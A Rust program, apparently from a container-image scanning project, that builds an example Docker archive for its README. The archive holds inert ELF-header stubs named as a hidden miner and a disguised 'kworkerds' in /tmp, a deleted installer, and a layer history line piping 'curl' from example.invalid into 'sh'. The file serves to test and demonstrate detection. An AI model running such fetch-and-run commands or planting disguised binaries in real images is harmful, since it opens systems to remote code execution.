//! Writes the example image used by the README: a three-layer `docker save` archive (Docker 25+
//! layout, gzip layers) with an OS, a dropper that leaves an ELF in /tmp and one deleted by a
//! later layer, and a nested archive.
//!
//! Usage: `make-example-image OUT.tar`

use anyhow::Context;
use stowaway_imagebuilder::{
    Compression, Image, Layer, LayerBuilder, docker_save_oci, gzip, zip_of,
};

/// The smallest ELF header a loader would look at: enough for any "is this ELF" check.
const ELF: &[u8] =
    b"\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\x3e\x00\x01\x00\x00\x00";

fn main() -> anyhow::Result<()> {
    let out = std::env::args()
        .nth(1)
        .context("usage: make-example-image OUT.tar")?;
    let mut base = LayerBuilder::new();
    base.dir("etc")
        .file(
            "etc/os-release",
            b"PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\nNAME=\"Debian GNU/Linux\"\nVERSION_ID=\"12\"\nID=debian\n",
        )
        .file("etc/debian_version", b"12.8\n")
        .dir("usr/bin")
        .file_mode("usr/bin/app", ELF, 0o755)
        .symlink("usr/bin/sh", "/bin/dash")
        .dir("tmp");
    let mut app = LayerBuilder::new();
    let jar = zip_of(&[
        ("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\n"),
        ("app/Main.class", b"\xca\xfe\xba\xbe"),
    ]);
    let mut bundle = LayerBuilder::new();
    bundle
        .file("payload/readme.txt", b"hello")
        .file_mode("payload/.hidden/miner", ELF, 0o755);
    app.file("opt/app/app.jar", &jar)
        .file("opt/app/bundle.tar.gz", &gzip(&bundle.build()))
        .file_mode("tmp/.X11-unix/kworkerds", ELF, 0o755)
        .file_mode("tmp/installer", ELF, 0o755);
    let mut cleanup = LayerBuilder::new();
    cleanup.whiteout("tmp/installer");
    let image = Image::new(
        &["example/app:1.0"],
        vec![
            Layer::new(
                base.build(),
                Compression::Gzip,
                "/bin/sh -c #(nop) ADD file:base in /",
            ),
            Layer::new(
                app.build(),
                Compression::Gzip,
                "/bin/sh -c curl -sL https://example.invalid/i.sh | sh",
            ),
            Layer::new(
                cleanup.build(),
                Compression::Gzip,
                "/bin/sh -c rm /tmp/installer",
            ),
        ],
    );
    std::fs::write(&out, docker_save_oci(&[image]).to_tar())
        .with_context(|| format!("writing {out}"))?;
    eprintln!("wrote {out}");
    Ok(())
}
